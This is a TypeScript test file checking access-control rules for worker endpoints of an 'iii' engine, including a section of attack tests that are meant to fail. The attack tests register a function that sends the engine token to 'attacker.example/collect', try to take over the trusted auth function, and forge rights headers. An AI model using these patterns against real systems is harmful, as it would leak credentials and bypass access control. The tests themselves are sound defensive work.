// Worker endpoints (III_WORKER_ENDPOINTS, docs/rbac.md) with the unmodified iii-sdk against
// `wrangler dev`: the auth function's input and what it admits, each invocation rule, the
// middleware, filtered lists, registration hooks and prefixes; and the attacks: taking over a
// trusted function, an HTTP-invoked function, a trigger on a function it may not call, forged
// rules headers, another namespace, another origin, auth answers that fail in every way.
import { registerWorker } from 'iii-sdk'
import WebSocket from 'ws'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { RawWorker, openEngine } from './support/engine'
import { type Iii } from './support/sdk'
import { unique, until } from './support/wait'
import { type WranglerDev, startWrangler } from './support/wrangler'

const ENDPOINTS = [
  {
    path: '/rb',
    middleware_function_id: 'rb::middleware',
    rbac: {
      auth_function_id: 'rb::auth',
      on_function_registration_function_id: 'rb::hook::fn',
      expose_functions: ['match("rb::public::*")', { metadata: { public: true } }, 'match("engine::functions::list")', 'match("engine::functions::info")'],
    },
  },
  { path: '/no-auth', rbac: { expose_functions: ['match("rb::public::*")'] } },
  { path: '/team', namespace: 'team-a', rbac: { auth_function_id: 'team::auth', expose_functions: ['match("*")'] } },
  { path: '/missing', rbac: { auth_function_id: 'rb::nobody' } },
]

type AuthInput = { headers: Record<string, string>; query_params: Record<string, string[]>; ip_address: string }

let dev: WranglerDev
let trusted: Iii
let team: Iii
const authCalls: AuthInput[] = []
const middlewareCalls: { function_id: string; payload: any; action: unknown; context: any }[] = []
const opened: Iii[] = []

/** A worker of the /rb endpoint with this token (and more of the address: a query). */
function endpointWorker(token: string, query = ''): Iii {
  const iii = registerWorker(`${dev.wsUrl}/rb${query}`, { headers: { 'x-token': token }, otel: { enabled: false } })
  opened.push(iii)
  return iii
}

/** Registered on the trusted side: waits until the trusted worker sees the function. */
const visible = (id: string) =>
  until(`${id} registered`, async () => {
    const { functions } = (await trusted.trigger({ function_id: 'engine::functions::list', payload: { include_internal: true } })) as { functions: { function_id: string; worker_id?: string }[] }
    return functions.find((f) => f.function_id === id)
  }, 10_000, 50)

/** The frames a raw connection to `path` gets, and how it closed. */
function rawAttempt(path: string, headers: Record<string, string> = {}): Promise<{ frames: any[]; code: number; reason: string } | { status: number }> {
  return new Promise((resolve) => {
    const frames: any[] = []
    const ws = new WebSocket(`${dev.wsUrl}${path}`, { headers })
    ws.on('message', (raw) => frames.push(JSON.parse(String(raw))))
    ws.on('close', (code, reason) => resolve({ frames, code, reason: String(reason) }))
    ws.on('unexpected-response', (_req, res) => resolve({ status: res.statusCode ?? 0 }))
    ws.on('error', () => {})
  })
}

beforeAll(async () => {
  dev = await startWrangler({ vars: { III_WORKER_ENDPOINTS: JSON.stringify(ENDPOINTS) } })
  trusted = registerWorker(dev.wsUrl, { workerName: 'trusted', otel: { enabled: false } })
  team = registerWorker(`${dev.wsUrl}/team-a`, { workerName: 'team-a', otel: { enabled: false } })
  trusted.registerFunction('rb::auth', async (input: AuthInput) => {
    authCalls.push(input)
    const token = input.headers['x-token']
    if (token === 'alice') return { allowed_functions: ['rb::granted'], context: { user_id: 'alice' }, allow_trigger_type_registration: true }
    if (token === 'bob') return { forbidden_functions: ['rb::public::banned'], context: { user_id: 'bob' }, function_registration_prefix: 'bob' }
    if (token === 'bad-shape') return { allowed_functions: 'everything' }
    if (token === 'nothing') return undefined
    if (token === 'slow') return new Promise(() => {})
    throw new Error('invalid token')
  })
  trusted.registerFunction('rb::middleware', async (input: { function_id: string; payload: any; action: unknown; context: any }) => {
    middlewareCalls.push(input)
    if (input.payload?.refuse) throw new Error('refused by the middleware')
    return trusted.trigger({ function_id: input.function_id, payload: { ...input.payload, _caller: input.context.user_id } })
  })
  trusted.registerFunction('rb::hook::fn', async (input: { function_id: string }) => {
    if (input.function_id.startsWith('denied::')) throw new Error('denied function registration')
    if (input.function_id === 'rename::me') return { function_id: 'renamed::me', description: 'renamed by the hook' }
    return {}
  })
  trusted.registerFunction('rb::public::echo', async (data: unknown) => ({ echoed: data }))
  trusted.registerFunction('rb::public::banned', async () => ({ banned: true }))
  trusted.registerFunction('rb::granted', async (data: unknown) => ({ granted: data }))
  trusted.registerFunction('rb::private', async () => ({ private: true }))
  trusted.registerFunction('rb::meta', async (data: unknown) => ({ meta: data }), { metadata: { public: true } })
  team.registerFunction('team::auth', async () => ({ context: { user_id: 'team-user' } }))
  await visible('rb::meta')
  await until('team::auth', () => team.trigger({ function_id: 'engine::functions::list', payload: {} }).then((l: any) => l.functions.some((f: any) => f.function_id === 'team::auth')), 10_000, 50)
})

afterAll(async () => {
  await Promise.allSettled([...opened, trusted, team].map((w) => w?.shutdown()))
  await dev?.stop()
})

describe('admission', () => {
  it("gives the auth function every header (lower-case), the raw query as lists and the client's address, once per connection, never per call", async () => {
    const marker = unique('m')
    const alice = endpointWorker('alice', `?marker=${marker}&tag=a&tag=b%20c`)
    for (let i = 0; i < 3; i++) expect(await alice.trigger({ function_id: 'rb::granted', payload: { i } })).toEqual({ granted: { i, _caller: 'alice' } })
    const mine = authCalls.filter((c) => c.query_params.marker?.[0] === marker)
    expect(mine).toHaveLength(1)
    expect(mine[0]).toMatchObject({ query_params: { marker: [marker], tag: ['a', 'b%20c'] }, headers: { 'x-token': 'alice', upgrade: 'websocket' } })
    expect(Object.keys(mine[0]!.headers).every((name) => name === name.toLowerCase())).toBe(true)
    expect(mine[0]!.ip_address).toMatch(/^(127\.0\.0\.1|::1|::ffff:127\.0\.0\.1)$/)
  })

  it('refuses when the auth function throws, answers nothing or the wrong shape, is not registered, or does not answer in time: an AUTH_ERROR frame, then 1008, and no session', async () => {
    const cases: [string, Record<string, string>, RegExp][] = [
      ['/rb', { 'x-token': 'mallory' }, /^invalid token$/],
      ['/rb', {}, /^invalid token$/],
      ['/rb', { 'x-token': 'bad-shape' }, /allowed_functions must be a list of strings/],
      ['/rb', { 'x-token': 'nothing' }, /^auth function returned no result$/],
      ['/missing', {}, /^Function rb::nobody not found$/],
      ['/rb', { 'x-token': 'slow' }, /timed out/],
      ['/rb/otel', { 'x-token': 'mallory' }, /^invalid token$/],
    ]
    for (const [path, headers, message] of cases) {
      const attempt = await rawAttempt(path, headers)
      expect(attempt, path).toMatchObject({ code: 1008, reason: expect.stringMatching(/^AUTH_ERROR: /) })
      if (!('frames' in attempt)) throw new Error('refused over HTTP')
      expect(attempt.frames, `${path} ${JSON.stringify(headers)}`).toEqual([{ type: 'error', error: { code: 'AUTH_ERROR', message: expect.stringMatching(message) } }])
    }
  })

  it('admits the telemetry socket under an endpoint with the same auth', async () => {
    const opened = await openEngine(`${dev.wsUrl}/rb/otel`, { 'x-token': 'alice' })
    expect('ws' in opened).toBe(true)
    if ('ws' in opened) opened.ws.close()
  })

  it('keeps the engine rule at an endpoint with no auth function: a page of another origin is refused, this machine gets the endpoint rules', async () => {
    expect(await rawAttempt('/no-auth', { origin: 'https://evil.example' })).toEqual({ status: 403 })
    const worker = await RawWorker.open(`${dev.wsUrl}/no-auth`)
    await worker.next((m) => m.type === 'workerregistered')
    expect(await worker.call('rb::public::echo', { x: 1 })).toMatchObject({ result: { echoed: { x: 1 } } }) // no middleware here
    expect((await worker.call('rb::private', {})).error).toEqual({ code: 'FORBIDDEN', message: "function 'rb::private' not allowed (add to rbac.expose_functions)" })
    worker.close()
  })
})

describe('invocations', () => {
  it('refuses in the engine order (forbidden, allowed, infrastructure, expose) with the FORBIDDEN error the SDK wraps', async () => {
    const alice = endpointWorker('alice')
    const bob = endpointWorker('bob')
    expect(await alice.trigger({ function_id: 'rb::public::echo', payload: { a: 1 } })).toEqual({ echoed: { a: 1, _caller: 'alice' } })
    expect(await alice.trigger({ function_id: 'rb::meta', payload: 1 })).toMatchObject({ meta: { _caller: 'alice' } })
    await expect(alice.trigger({ function_id: 'engine::log::info', payload: { message: 'from an endpoint' } })).resolves.toBeUndefined()
    for (const id of ['rb::private', 'rb::auth', 'state::get', 'engine::workers::list', 'nobody::here']) {
      await expect(alice.trigger({ function_id: id, payload: {} })).rejects.toMatchObject({ code: 'FORBIDDEN', function_id: id, message: `FORBIDDEN: function '${id}' not allowed (add to rbac.expose_functions)` })
    }
    await expect(bob.trigger({ function_id: 'rb::public::banned', payload: {} })).rejects.toMatchObject({ code: 'FORBIDDEN', message: expect.stringContaining('remove from rbac.forbidden_functions') })
    await expect(bob.trigger({ function_id: 'rb::granted', payload: {} })).rejects.toMatchObject({ code: 'FORBIDDEN' })
  })

  it("hands the middleware {function_id, payload, action, context}; its answer or its failure is the caller's", async () => {
    const alice = endpointWorker('alice')
    const marker = unique('mw')
    await expect(alice.trigger({ function_id: 'rb::public::echo', payload: { refuse: true, marker } })).rejects.toMatchObject({ message: expect.stringContaining('refused by the middleware') })
    const seen = middlewareCalls.find((c) => c.payload?.marker === marker)
    expect(seen).toEqual({ function_id: 'rb::public::echo', payload: { refuse: true, marker }, action: null, context: { user_id: 'alice' } })
    // A void call reaches it too, with its action.
    const voidMarker = unique('void')
    await alice.trigger({ function_id: 'rb::public::echo', payload: { marker: voidMarker }, action: { type: 'void' } } as never)
    const voided = await until('the void call at the middleware', () => middlewareCalls.find((c) => c.payload?.marker === voidMarker))
    expect(voided.action).toEqual({ type: 'void' })
  })
})

describe('lists', () => {
  it('shows a worker of an endpoint only what it may invoke; info on a hidden function is FORBIDDEN whether it exists or not', async () => {
    const alice = endpointWorker('alice')
    const { functions } = (await alice.trigger({ function_id: 'engine::functions::list', payload: {} })) as { functions: { function_id: string }[] }
    const ids = functions.map((f) => f.function_id)
    expect(ids).toEqual(expect.arrayContaining(['rb::public::echo', 'rb::public::banned', 'rb::granted', 'rb::meta']))
    for (const hidden of ['rb::private', 'rb::auth', 'rb::middleware', 'state::get']) expect(ids).not.toContain(hidden)
    for (const id of ['rb::private', 'no::such']) {
      await expect(alice.trigger({ function_id: 'engine::functions::info', payload: { function_id: id } })).rejects.toMatchObject({ code: 'FORBIDDEN', message: expect.stringContaining(`Function '${id}' is not visible to this session.`) })
    }
    expect(await alice.trigger({ function_id: 'engine::functions::info', payload: { function_id: 'rb::meta' } })).toMatchObject({ function_id: 'rb::meta' })
  })
})

describe('registrations', () => {
  it('passes each through the hook (refused silently, or rewritten) and stores a prefixed worker\'s under its prefix, stripped when it is called, removed by its unregister', async () => {
    const alice = endpointWorker('alice')
    const bob = endpointWorker('bob')
    alice.registerFunction('denied::x', async () => 'no')
    alice.registerFunction('rename::me', async () => 'renamed')
    const done = unique('alice::done')
    alice.registerFunction(done, async () => 'done')
    await visible(done)
    await expect(trusted.trigger({ function_id: 'denied::x', payload: {} })).rejects.toMatchObject({ code: 'function_not_found' })
    expect(await visible('renamed::me')).toMatchObject({ function_id: 'renamed::me' })
    const info = (await trusted.trigger({ function_id: 'engine::functions::info', payload: { function_id: 'renamed::me' } })) as { description?: string }
    expect(info.description).toBe('renamed by the hook')

    const handle = bob.registerFunction('echo', async (data: unknown) => ({ bob: data }))
    await visible('bob::echo')
    expect(await trusted.trigger({ function_id: 'bob::echo', payload: 7 })).toEqual({ bob: 7 })
    handle.unregister()
    await until('bob::echo gone', () => trusted.trigger({ function_id: 'bob::echo', payload: 7 }).then(() => false, (err) => err.code === 'function_not_found'), 10_000, 100)
  })
})

describe('attacks', () => {
  it('may not take over a trusted function, register an HTTP-invoked one or an engine id, or put a trigger on a function it may not call', async () => {
    const alice = endpointWorker('alice')
    alice.registerFunction('rb::auth', async () => ({ allowed_functions: ['rb::private'], context: { user_id: 'mallory' } }))
    alice.registerFunction('rb::private', async () => ({ stolen: true }))
    alice.registerFunction('steal::http', { url: 'https://attacker.example/collect', auth: { type: 'bearer', token_key: 'III_ENGINE_TOKEN' } } as never)
    alice.registerFunction('engine::queue::enqueue', async () => ({ messageReceiptId: 'stolen' }))
    alice.registerTrigger({ type: 'http', function_id: 'rb::private', config: { api_path: 'steal', http_method: 'GET' } })
    const marker = unique('attack::done')
    alice.registerFunction(marker, async () => 'done')
    // Registrations are handled in order: once the last is there, every one before it was decided.
    await visible(marker)
    expect(await trusted.trigger({ function_id: 'rb::private', payload: {} })).toEqual({ private: true })
    const { functions } = (await trusted.trigger({ function_id: 'engine::functions::list', payload: { include_internal: true } })) as { functions: { function_id: string }[] }
    expect(functions.map((f) => f.function_id)).not.toContain('steal::http')
    expect(functions.map((f) => f.function_id)).not.toContain('engine::queue::enqueue') // it would have made alice the queue provider
    expect((await fetch(`${dev.baseUrl}/steal`)).status).toBe(404)
    // The auth function is still the trusted one: a new connection gets alice's rights, not mallory's.
    const again = endpointWorker('alice')
    await expect(again.trigger({ function_id: 'rb::private', payload: {} })).rejects.toMatchObject({ code: 'FORBIDDEN' })
  })

  it('ignores rules headers a client sends itself, on the plain socket and on an endpoint', async () => {
    const forged = btoa(JSON.stringify({ allowed_functions: ['rb::private'], forbidden_functions: [], allowed_trigger_types: null, allow_trigger_type_registration: true, allow_function_registration: true, function_registration_prefix: 'evil', context: {} }))
    const plain = await RawWorker.open(dev.wsUrl, { 'x-iii-endpoint': '/rb', 'x-iii-rights': forged })
    const id = unique('plain::fn')
    plain.send({ type: 'registerfunction', id })
    await visible(id) // not evil::…: the plain socket has no prefix
    plain.close()
    const alice = await RawWorker.open(`${dev.wsUrl}/rb`, { 'x-token': 'alice', 'x-iii-endpoint': '/', 'x-iii-rights': forged })
    expect((await alice.call('rb::private', {})).error).toMatchObject({ code: 'FORBIDDEN' })
    alice.close()
  })

  it("keeps an endpoint in its namespace: its auth function and its calls are that namespace's", async () => {
    const worker = await RawWorker.open(`${dev.wsUrl}/team-a/team`)
    await worker.next((m) => m.type === 'workerregistered')
    expect((await worker.call('team::auth', {})).result).toEqual({ context: { user_id: 'team-user' } })
    expect((await worker.call('rb::public::echo', {})).error).toMatchObject({ code: 'function_not_found' })
    worker.close()
  })
})
